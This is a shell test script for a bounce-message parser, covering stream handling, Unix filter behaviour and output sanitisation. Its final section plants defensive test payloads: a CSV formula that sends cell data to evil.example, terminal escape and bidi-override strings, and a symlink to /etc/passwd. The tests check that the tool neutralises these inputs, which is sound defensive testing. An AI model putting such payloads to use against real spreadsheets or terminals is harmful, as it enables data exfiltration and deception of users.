#!/bin/sh
# test-pipeline.sh - ndrparse as a part of a mail pipeline: every input
# kind streamed and read the same way, nothing read that is not the
# user's to read, runs that always end, output safe to open and to show,
# and the conventions of Unix filters.
#
#   sh test-pipeline.sh NDRPARSE CORPUS-DIR MEASURE
tool=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
corpus=$(cd "$2" && pwd)
measure_bin=$3
. "$(dirname "$0")/testlib.sh"

bounce=$corpus/postfix-user-unknown.eml
from_line='From MAILER-DAEMON Mon May  6 09:12:05 2024'
mbox_of() {  # mbox_of FILE...: the files as one mbox on stdout
	for f in "$@"; do printf '%s\n' "$from_line"; cat "$f"; echo; done
}
mbox_of "$bounce" "$corpus/exim-two-recipients.eml" "$corpus/null-mx.eml" > "$tmp/box.mbox"
"$tool" --format=jsonl "$tmp/box.mbox" | sed 's/"file": "[^"]*"/"file": F/' > "$tmp/box.expected"
without_file() { sed 's/"file": "[^"]*"/"file": F/' "$1"; }

# ---- every input kind streamed ----
stdin=$tmp/box.mbox run --format=jsonl -
check "mbox on standard input: every message, as from the file" \
	sh -c 'sed "s/\"file\": \"[^\"]*\"/\"file\": F/" "$1" | cmp -s - "$2"' sh "$tmp/out" "$tmp/box.expected"
stdin=$tmp/box.mbox run --format=jsonl --input=mbox -
check "--input=mbox on standard input: every message" [ "$(wc -l < "$tmp/out")" -eq 4 ]
mkfifo "$tmp/fifo"
cat "$tmp/box.mbox" > "$tmp/fifo" &
run --format=jsonl "$tmp/fifo"
wait
check "mbox through a FIFO named on the command line: every message" [ "$(wc -l < "$tmp/out")" -eq 4 ]
check "mbox through a FIFO: exit 0" [ "$rc" -eq 0 ]

# The same bytes give the same records whatever way they come in.
cat "$bounce" "$bounce" > "$tmp/twice.eml"
mbox_of "$bounce" "$bounce" > "$tmp/twice.mbox"
mkdir -p "$tmp/md/cur" "$tmp/md/new"
cp "$tmp/twice.eml" "$tmp/md/cur/a"
cp "$tmp/twice.mbox" "$tmp/md/cur/b"
for f in "$tmp/twice.eml" "$tmp/twice.mbox"; do
	"$tool" --format=jsonl "$f" | without_file /dev/stdin > "$tmp/as-file"
	"$tool" --format=jsonl - < "$f" | without_file /dev/stdin > "$tmp/as-stdin"
	cp "$f" "$tmp/md/new/x"
	"$tool" --format=jsonl "$tmp/md" | without_file /dev/stdin | tail -n "$(wc -l < "$tmp/as-file")" > "$tmp/as-maildir"
	check "$(basename "$f"): the same records as a file, on stdin and in a Maildir" \
		sh -c 'cmp -s "$1" "$2" && cmp -s "$1" "$3"' sh "$tmp/as-file" "$tmp/as-stdin" "$tmp/as-maildir"
done
rm -r "$tmp/md"

# An mbox truncated while it is read is an error, not a silent success.
for round in $(seq 200); do cat "$tmp/box.mbox"; done > "$tmp/shrinking.mbox"
"$tool" --format=jsonl -j1 "$tmp/shrinking.mbox" > "$tmp/out" 2> "$tmp/err" &
pid=$!
for try in $(seq 200); do [ -s "$tmp/out" ] && break; sleep 0.01; done
: > "$tmp/shrinking.mbox"
wait $pid
rc=$?
if [ "$(wc -l < "$tmp/out")" -lt 800 ]; then
	check "mbox truncated while read: exit 66" [ "$rc" -eq 66 ]
	check "mbox truncated while read: says so" grep -q "shrinking.mbox: the file was truncated while it was read" "$tmp/err"
else
	skip "mbox truncated while read" "the mbox was read whole before it could be truncated"
fi

# Standard input already partly read (a shell's `read` took a line, or
# two filters share one descriptor): what is left is the input, and its
# end is not a truncation.
{ IFS= read -r first; "$tool" --format=jsonl - > "$tmp/out" 2> "$tmp/err"; echo $? > "$tmp/rc"; } < "$tmp/twice.mbox"
check "stdin read from an offset: exit 0" [ "$(cat "$tmp/rc")" -eq 0 ]
check "stdin read from an offset: no error" [ ! -s "$tmp/err" ]
check "stdin read from an offset: the messages after it" [ "$(wc -l < "$tmp/out")" -ge 1 ]
{ "$tool" --annotate > /dev/null; "$tool" --annotate > "$tmp/out" 2> "$tmp/err"; echo $? > "$tmp/rc"; } < "$bounce"
check "stdin at its end: exit 0 and no error" sh -c '[ "$(cat "$1")" -eq 0 ] && [ ! -s "$2" ]' sh "$tmp/rc" "$tmp/err"

# gzip: files, mboxes and standard input, detected by their magic.
gzip -c "$bounce" > "$tmp/one.eml.gz"
gzip -c "$tmp/box.mbox" > "$tmp/box.mbox.gz"
run --format=jsonl "$tmp/one.eml.gz" "$tmp/box.mbox.gz"
check "gzip: a compressed message and a compressed mbox (1 + 4 records)" [ "$(wc -l < "$tmp/out")" -eq 5 ]
stdin=$tmp/box.mbox.gz run --format=jsonl -
check "gzip: a compressed mbox on standard input" [ "$(wc -l < "$tmp/out")" -eq 4 ]
head -c 2000 "$tmp/box.mbox" > "$tmp/part1"
tail -c +2001 "$tmp/box.mbox" > "$tmp/part2"
{ gzip -c "$tmp/part1"; gzip -c "$tmp/part2"; } > "$tmp/members.gz"
run --format=jsonl "$tmp/members.gz"
check "gzip: concatenated members are one stream, as gzip -d reads them" [ "$(wc -l < "$tmp/out")" -eq 4 ]
# The first read of a pipe may bring one byte: too few to tell gzip's magic.
for input in box.mbox.gz box.mbox; do
	{ head -c 1 "$tmp/$input"; sleep 0.3; tail -c +2 "$tmp/$input"; } | "$tool" --format=jsonl - > "$tmp/out" 2> "$tmp/err"
	check "a pipe whose first read is one byte: $input (4 records)" [ "$(wc -l < "$tmp/out")" -eq 4 ]
done
head -c 300 "$tmp/box.mbox.gz" > "$tmp/cut.gz"
run --format=jsonl "$tmp/cut.gz"
check "gzip: data cut short is an error, exit 66" sh -c '[ "$1" -eq 66 ] && grep -q "damaged gzip data" "$2"' sh "$rc" "$tmp/err"

# ---- nothing read that is not the user's to read; every run ends ----
mkdir -p "$tmp/dir" "$tmp/outside"
cp "$bounce" "$tmp/dir/a.eml"
cp "$corpus/null-mx.eml" "$tmp/outside/secret.eml"
mkfifo "$tmp/dir/b.fifo"
ln -s /dev/zero "$tmp/dir/c-zero"
ln -s "$tmp/outside/secret.eml" "$tmp/dir/d-outside"
ln -s a.eml "$tmp/dir/e-inside"
for jobs in 1 2; do
	measure "$tmp/cost" timeout 20 "$tool" --format=jsonl --all-inputs -j $jobs "$tmp/dir" > "$tmp/out" 2> "$tmp/err"
	check "-j$jobs: a FIFO and a link to /dev/zero in a directory: skipped, the run ends, exit 0" \
		[ "$(cut -d" " -f1 "$tmp/cost")" -eq 0 ]
	check "-j$jobs: the FIFO is skipped with a note" grep -q '"file": "[^"]*b.fifo", "index": null, "result": "skipped", "error": "skipped: a FIFO' "$tmp/out"
	check "-j$jobs: the device link is skipped with a note" grep -q 'c-zero", "index": null, "result": "skipped"' "$tmp/out"
	check "-j$jobs: a link out of the directory is not followed" \
		sh -c 'grep -q "d-outside\", \"index\": null, \"result\": \"skipped\", \"error\": \"skipped: a symbolic link out" "$1" && ! grep -q "ida@nomail" "$1"' sh "$tmp/out"
	check "-j$jobs: a link inside it is followed" grep -q '"file": "[^"]*e-inside", "index": null, "decoded_by"' "$tmp/out"
	check "-j$jobs: nothing on stderr (skipping is no error)" [ ! -s "$tmp/err" ]
done
mkdir -p "$tmp/maildir/cur" "$tmp/maildir/new"
cp "$bounce" "$tmp/maildir/cur/1"
ln -s /etc/passwd "$tmp/maildir/new/2"
ln -s "$tmp/outside/secret.eml" "$tmp/maildir/new/3"
run --format=jsonl "$tmp/maildir"
check "Maildir: links to files outside it are not read" \
	sh -c '[ "$(wc -l < "$1")" -eq 1 ] && ! grep -q "ida@nomail\|root:" "$1" && [ "$2" -eq 0 ]' sh "$tmp/out" "$rc"

# -r follows directory links once: a loop reads nothing twice.
mkdir -p "$tmp/loop/sub"
cp "$bounce" "$tmp/loop/sub/m.eml"
ln -s . "$tmp/loop/self"
ln -s .. "$tmp/loop/sub/up"
measure "$tmp/cost" timeout 20 "$tool" --format=jsonl -r "$tmp/loop" > "$tmp/out" 2> "$tmp/err"
check "-r with link loops: each message once, exit 0" \
	sh -c '[ "$(wc -l < "$1")" -eq 1 ] && [ "$(cut -d" " -f1 "$2")" -eq 0 ]' sh "$tmp/out" "$tmp/cost"

# -j with standard input closed still runs its workers.
mkdir "$tmp/many"
for i in $(seq 100); do cp "$corpus"/*.eml "$tmp/many/" 2> /dev/null; done
for i in $(seq 40); do cp "$bounce" "$tmp/many/m$i.eml"; done
for round in $(seq 30); do cat "$tmp/box.mbox"; done > "$tmp/many/z.mbox"
"$tool" --format=jsonl -j 2 "$tmp/many" "$tmp/many" "$tmp/many" "$tmp/many" > "$tmp/closed.out" 2>&1 <&- &
parent=$!
workers=0
for try in $(seq 300); do
	n=$(cat "/proc/$parent/task/$parent/children" 2> /dev/null | wc -w)
	[ "$n" -ge 2 ] && { workers=$n; break; }
	[ -d "/proc/$parent" ] || break
	sleep 0.01
done
wait $parent
rc=$?
"$tool" --format=jsonl -j 1 "$tmp/many" "$tmp/many" "$tmp/many" "$tmp/many" > "$tmp/closed.expected" 2>&1
check "-j2 with standard input closed: two worker processes run" [ "$workers" -ge 2 ]
check "-j2 with standard input closed: the records of -j1" cmp -s "$tmp/closed.expected" "$tmp/closed.out"

# ---- Unix filter conventions ----
( trap '' PIPE; "$tool" --format=jsonl -j1 "$tmp/many" 2> "$tmp/err"; echo $? > "$tmp/rc" ) | head -1 > /dev/null
check "| head -1 (SIGPIPE ignored by the caller): no message, exit 141" \
	sh -c '[ ! -s "$1" ] && [ "$(cat "$2")" -eq 141 ]' sh "$tmp/err" "$tmp/rc"
( "$tool" --format=jsonl -j2 "$tmp/many" 2> "$tmp/err"; echo $? > "$tmp/rc" ) | head -1 > /dev/null
check "| head -1 with -j2: no message, exit 141" sh -c '[ ! -s "$1" ] && [ "$(cat "$2")" -eq 141 ]' sh "$tmp/err" "$tmp/rc"

ls "$corpus"/exim-two-recipients.eml "$bounce" > "$tmp/names"
printf '%s\0%s\0' "$corpus/exim-two-recipients.eml" "$bounce" > "$tmp/names0"
run --format=jsonl --files-from="$tmp/names"
check "--files-from: the files it lists" [ "$(wc -l < "$tmp/out")" -eq 3 ]
stdin=$tmp/names0 run --format=json --files-from=- -0
check "--files-from=- -0: NUL-separated names (find -print0), one JSON array" \
	sh -c '[ "$(grep -c "\"recipient\":" "$1")" -eq 3 ] && [ "$(grep -c "^\[" "$1")" -eq 1 ]' sh "$tmp/out"
run --format=jsonl --files-from="$tmp/missing-list"
check "--files-from a list that cannot be read: exit 66" [ "$rc" -eq 66 ]

run --format=jsonl --fields=recipient,reason,hard_bounce "$corpus/exim-two-recipients.eml"
check "--fields with jsonl: only those keys" \
	grep -q '^{"recipient": "erin@one.example", "reason": "userunknown", "hard_bounce": true}$' "$tmp/out"
run --format=json --fields=file,recipient "$bounce"
check "--fields with json: only those keys" grep -q '^\[{"file": "[^"]*", "recipient": "bob@dest.example"}\]$' "$tmp/out"

# Bare SMTP replies from logs: the same record keys as a bounce's.
run --format=jsonl --reply="$(printf '550 5.1.1 <bob@dest.example>: User unknown\tRCPT\tMX1.dest.example\tbob@dest.example')"
check "--reply: classified like the bounce (userunknown, hard)" \
	grep -q '"decoded_by": "reply", "recipient": "bob@dest.example".*"reply_code": "550".*"smtp_command": "RCPT".*"remote_mta": "mx1.dest.example".*"reason": "userunknown".*"hard_bounce": true' "$tmp/out"
"$tool" --format=jsonl "$bounce" | python3 -c 'import json,sys; print(list(json.loads(sys.stdin.readline())))' > "$tmp/keys-bounce"
python3 -c 'import json,sys; print(list(json.loads(sys.stdin.readline())))' < "$tmp/out" > "$tmp/keys-reply"
check "--reply: the same keys, in the same order, as a bounce's record" cmp -s "$tmp/keys-bounce" "$tmp/keys-reply"
LC_ALL=C "$tool" --format=jsonl --reply="$(printf '550 5.1.1 Utilisateur non r\303\251pertori\303\251 dans l'"'"'annuaire Domino')" > "$tmp/out" 2> "$tmp/err"
check "--reply in the C locale: 8-bit UTF-8 taken as it is, not refused" \
	grep -q '"diagnostic_code": "550 5.1.1 Utilisateur non répertorié dans l'"'"'annuaire Domino"' "$tmp/out"
printf '421 4.7.0 Try again later\n\n552 5.2.2 Mailbox full\tDATA\n' > "$tmp/replies"
run --format=csv --fields=index,reason,hard_bounce --replies="$tmp/replies"
check "--replies: one record per line, numbered, blank lines skipped" \
	sh -c '[ "$(tail -n +2 "$1" | wc -l)" -eq 2 ] && grep -q "^2,mailboxfull,false" "$1"' sh "$tmp/out"
stdin=$tmp/replies run --format=jsonl --replies=-
check "--replies=-: from standard input" [ "$(wc -l < "$tmp/out")" -eq 2 ]

# Values normalised; errors said once.
printf 'From: MAILER-DAEMON@mx.example.org\nSubject: Undelivered Mail\nMIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; MX.Example.ORG\n\nFinal-Recipient: rfc822; u@example.net\nAction: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.example.net [192.0.2.9]\nDiagnostic-Code: SMTP; 550 5.1.1 unknown\n\n--b--\n' > "$tmp/norm.eml"
run --format=jsonl "$tmp/norm.eml"
check "diagnostic_type lower-case, remote_mta without the address literal" \
	grep -q '"diagnostic_type": "smtp", .*"reporting_mta": "mx.example.org", "remote_mta": "mx.example.net"' "$tmp/out"
run --format=jsonl /nonexistent/x.eml
check "a missing file: one error naming it once" \
	sh -c '[ "$(cat "$1")" = "ndrparse: /nonexistent/x.eml: cannot open: No such file or directory" ]' sh "$tmp/err"

# ---- output safe to open and to show ----
printf 'From: MAILER-DAEMON@mx.example.org\nSubject: =?UTF-8?B?%s?=\nMIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.org\n\nFinal-Recipient: rfc822; u@example.net\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; =HYPERLINK("http://evil.example/?"&A1)\n\n--b\nContent-Type: text/rfc822-headers\n\nSubject: =?UTF-8?B?%s?=\n\n--b--\n' \
	"$(printf '@SUM(1+1)' | base64 -w0)" "$(printf '+1\033]8;;http://evil.example\007link\302\233\342\200\256txt.exe' | base64 -w0)" > "$tmp/hostile.eml"
run --format=csv --fields=diagnostic_code,subject "$tmp/hostile.eml"
check "csv: a cell that would be a formula is quoted and starts with '" \
	grep -q "^\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"," "$tmp/out"
check "csv: no control or bidi character in a cell" \
	sh -c '! grep -q "$(printf "\033")\|$(printf "\302\233")\|$(printf "\342\200\256")" "$1"' sh "$tmp/out"
check "csv: a Subject that would be a formula is quoted too" grep -q "\"'+1 " "$tmp/out"
run --format=text --fields=subject "$tmp/hostile.eml"
check "text: no control or bidi character in a cell" \
	sh -c '! grep -q "$(printf "\033")\|$(printf "\302\233")\|$(printf "\342\200\256")" "$1"' sh "$tmp/out"
run --format=jsonl "$tmp/hostile.eml"
check "jsonl: C1 and bidi characters as \\u escapes" \
	sh -c 'grep -q "u009b\\\\u202e" "$1" && ! grep -q "$(printf "\302\233")\|$(printf "\342\200\256")" "$1"' sh "$tmp/out"
cp "$tmp/plain.eml" "$tmp/x" 2> /dev/null || printf 'Subject: x\n\nx\n' > "$tmp/x"
evil="$tmp/$(printf 'a\033]0;pwned\007\342\200\256b.eml')"
: > "$evil"
run --format=jsonl "$evil"
check "stderr: a file name's control and bidi characters escaped" \
	sh -c 'grep -q "a\\\\x1B\]0;pwned\\\\x07\\\\u202Eb.eml: not an email message" "$1" && ! grep -q "$(printf "\033")" "$1"' sh "$tmp/err"

finish
